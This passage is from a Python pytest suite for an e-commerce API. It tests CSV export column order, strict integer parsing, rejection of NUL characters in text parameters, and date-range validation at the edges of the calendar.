    assert 2 in [r["id"] for r in filtered] and {r["product_id"] for r in filtered} == {product}
    table = list(csv.reader(io.StringIO((await get("/reviews", format="csv")).decode())))
    assert table[0][:10] == [
        "id",
        "product_id",
        "user_id",
        "order_id",
        "rating",
        "title",
        "comment",
        "status",
        "created_at",
        "updated_at",
    ]  # the columns a CSV consumer had keep their places
    assert {"product_name", "shop_slug", "helpful_votes"} <= set(table[0])


@pytest.mark.parametrize("raw", [" 1", "1 ", "+1", "１", "١", "1_0", "0x1", "1e2"])
@pytest.mark.parametrize(("path", "name"), [("/orders", "customer_id"), ("/reviews", "rating")])
async def test_integers_are_ascii_digits_only(api, path, name, raw):
    _, get, _ = api
    body = await get(path, _status=422, **{name: raw})
    assert body["error"] == {
        "code": "invalid_parameter",
        "message": f"{name} must be an integer",
        "field": name,
    }


async def test_a_nul_in_text_is_refused_for_what_it_is(api):
    _, get, _ = api
    for name in ("search", "category"):
        body = await get("/products", _status=422, **{name: "plant\x00er"})
        assert body["error"]["field"] == name
        assert body["error"]["message"] == f"{name} must not contain NUL characters"


async def test_analytics_refuses_a_period_that_would_run_backwards(api):
    _, get, _ = api
    body = await get("/analytics", _status=422, date_from="2030-01-01")
    assert body["error"]["field"] == "date_from"
    assert "after date_to" in body["error"]["message"]


EDGES = [
    {"date_to": "9999-12-31"},
    {"date_from": "0001-01-01"},
    {"date_from": "0001-01-01", "date_to": "9999-12-31"},
    {"date_from": "0001-01-01", "date_to": "0001-01-31"},
    {"date_from": "9999-12-01", "date_to": "9999-12-31"},
    {"date_to": "9999-12-31T23:59:59.999999"},
    {"date_from": "0001-01-01T00:00:00+14:00"},
    {"date_to": "9999-12-31T23:00:00-14:00"},
]


@pytest.mark.parametrize("edge", EDGES, ids=lambda e: ",".join(f"{k}={v}" for k, v in e.items()))
@pytest.mark.parametrize("path", ["/customers", "/orders", "/reviews", "/analytics", "/customers/{id}"])
async def test_dates_at_the_edges_of_the_calendar_are_answered(api, path, edge):
    """Year 1 and year 9999 are valid dates: the answer is the export (or, for analytics,
    a 422 naming the field when the period cannot be), never a 500."""
    _, get, db = api
    customer = db.execute("SELECT user_id FROM orders ORDER BY id LIMIT 1")[0][0]
    body = await get(path.format(id=customer), _status=None, **edge)
    if not body["success"]:
        assert body["error"]["code"] == "invalid_parameter" and body["error"]["field"] in edge, body
    elif path == "/analytics":
        period = body["data"]["period"]
        assert period["date_from"] < period["date_to"]
        previous = body["data"]["previous_period"]
        assert previous["date_from"] <= previous["date_to"] == period["date_from"]
